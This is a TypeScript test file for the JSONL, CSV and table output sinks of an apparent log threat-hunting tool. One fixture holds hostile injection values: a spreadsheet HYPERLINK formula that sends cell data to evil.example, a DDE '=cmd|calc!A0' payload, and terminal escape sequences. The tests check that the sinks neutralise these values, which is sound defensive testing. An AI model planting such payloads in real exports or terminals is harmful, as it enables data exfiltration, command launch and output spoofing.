import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough, Writable } from 'node:stream';
import type { Finding } from '../../src/findings/finding.js';
import { attackIdsFromTags, compareFindings, levelRank } from '../../src/findings/finding.js';
import { createJsonlSink } from '../../src/findings/sinks/jsonl.js';
import { createCsvSink } from '../../src/findings/sinks/csv-sink.js';
import { createTableSink } from '../../src/findings/sinks/table.js';
import type { FindingSink, SinkTarget } from '../../src/findings/sink.js';
import type { HuntSummary } from '../../src/findings/summary.js';
import { splitCsvRecords } from '../../src/sources/csv-records.js';

const finding: Finding = {
  ts: '2019-03-04T10:22:31.120Z',
  detector: 'sigma',
  rule: { id: 'a1b2', title: 'Web shell spawns "cmd", then, recon', level: 'high' },
  attack: ['T1505.003', 'T1059.003'],
  host: 'WEB-IIS01',
  source: { path: 'logs/web01.jsonl', record: 4211, format: 'jsonl' },
  matched: { ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', CommandLine: 'cmd /c "whoami"\nipconfig' },
  event: { EventID: 1 },
};
const summary = {} as HuntSummary;

async function render(make: (t: { stream: PassThrough; isTTY: boolean }) => FindingSink, findings: Finding[]): Promise<string> {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  const sink = make({ stream, isTTY: false });
  for (const f of findings) sink.write(f);
  await sink.close(summary);
  return Buffer.concat(chunks).toString('utf8');
}

test('jsonl writes one parseable Finding per line, exactly as given', async () => {
  const text = await render(createJsonlSink, [finding, { ...finding, source: { ...finding.source, record: 4212 } }]);
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.length, 2);
  assert.deepEqual(JSON.parse(lines[0]!), finding);
  assert.equal(JSON.parse(lines[1]!).source.record, 4212);
});

test('jsonl handles many findings through back-pressure without losing any', async () => {
  const many = Array.from({ length: 5000 }, (_, i) => ({ ...finding, source: { ...finding.source, record: i } }));
  const text = await render(createJsonlSink, many);
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.length, 5000);
  assert.equal(JSON.parse(lines[4999]!).source.record, 4999);
});

test('csv quotes commas, quotes and newlines (RFC 4180)', async () => {
  const text = await render(createCsvSink, [finding]);
  const [header, ...rest] = text.split('\r\n');
  assert.equal(header, 'ts,level,detector,rule_id,rule_title,attack,host,source_path,source_record,source_format,matched,event_id,channel,user,details');
  const row = rest.join('\r\n');
  assert.ok(row.startsWith('2019-03-04T10:22:31.120Z,high,sigma,a1b2,"Web shell spawns ""cmd"", then, recon",T1505.003;T1059.003,WEB-IIS01,'));
});

test('table prints a header and one line per finding, newlines flattened', async () => {
  const text = await render((t) => createTableSink(t, 240), [finding]);
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.length, 2);
  assert.match(lines[0]!, /^time\s+lvl/);
  assert.match(lines[1]!, /^2019-03-04T10:22:31\.120Z\s+high\s+sigma\s+Web shell/);
  assert.match(lines[1]!, /CommandLine=cmd \/c "whoami" ipconfig/);
});

test('levels rank in order; ATT&CK ids come from tags; findings sort by time then source', () => {
  assert.ok(levelRank('critical') > levelRank('high') && levelRank('low') > levelRank('informational'));
  assert.deepEqual(attackIdsFromTags(['attack.persistence', 'attack.t1505.003', 'attack.T1003', 'cve.2021-1']), ['T1505.003', 'T1003']);
  const a = { ...finding, ts: '2019-03-04T10:00:00.000Z' };
  const b = { ...finding, ts: '2019-03-04T09:00:00.000Z' };
  const c = { ...b, source: { ...b.source, record: 1 } };
  assert.deepEqual([a, b, c].sort(compareFindings), [c, b, a]);
});

/** A finding whose every data field an attacker controls: formula text, escape sequences. */
const hostile: Finding = {
  ...finding,
  rule: { id: 'c3d4', title: 'Rule\x1b[2K\x1b[1A hidden', level: 'medium' },
  host: '=HYPERLINK("http://evil.example/?"&A1,"WEB01")',
  source: { path: 'logs/=cmd|calc!A0.jsonl', record: 7, format: 'jsonl' },
  matched: { CommandLine: 'whoami\x1b]0;owned\x07\u009b2J' },
};

test('csv neutralises formula cells in host, source_path and title', async () => {
  const text = await render(createCsvSink, [hostile]);
  const [header, row] = splitCsvRecords(text, ',', 0, 1);
  const cells = Object.fromEntries(header!.fields.map((h, i) => [h, row!.fields[i]]));
  assert.equal(cells.host, `'${hostile.host}`);
  assert.equal(cells.source_path, 'logs/=cmd|calc!A0.jsonl');
  assert.equal(cells.rule_title, hostile.rule.title);
  const csv2 = await render(createCsvSink, [{ ...hostile, source: { ...hostile.source, path: '=cmd|calc!A0.jsonl' }, rule: { ...hostile.rule, title: '@SUM(1)' } }]);
  const [, row2] = splitCsvRecords(csv2, ',', 0, 1);
  assert.equal(row2!.fields[header!.fields.indexOf('source_path')], "'=cmd|calc!A0.jsonl");
  assert.equal(row2!.fields[header!.fields.indexOf('rule_title')], "'@SUM(1)");
});

test('table never writes a raw control character from the data', async () => {
  const text = await render((t) => createTableSink(t, 240), [hostile]);
  assert.doesNotMatch(text.replace(/\n/g, ''), /[\u0000-\u001f\u007f-\u009f]/);
  assert.match(text, /Rule\\x1b\[2K\\x1b\[1A hidden/);
  assert.match(text, /whoami\\x1b\]0;owned\\x07\\x9b2J/);
});

test('jsonl escapes C0 and C1 control characters and keeps the exact values', async () => {
  const text = await render(createJsonlSink, [hostile]);
  assert.doesNotMatch(text.trimEnd(), /[\u0000-\u001f\u007f-\u009f]/);
  assert.match(text, /\\u001b\[2K/);
  assert.match(text, /\\u009b2J/);
  assert.deepEqual(JSON.parse(text), hostile);
});

test('a write that fails after being accepted makes close() reject (no silent truncation)', async () => {
  for (const make of [createJsonlSink, createCsvSink, (t: SinkTarget) => createTableSink(t, 200)]) {
    const failing = new Writable({ write(_chunk, _enc, cb) { cb(Object.assign(new Error('ENOSPC: no space left on device, write'), { errno: -28, code: 'ENOSPC' })); } });
    failing.on('error', () => {});
    const sink = make({ stream: failing, isTTY: false });
    sink.write(finding);
    await assert.rejects(sink.close(summary), /ENOSPC/);
  }
});
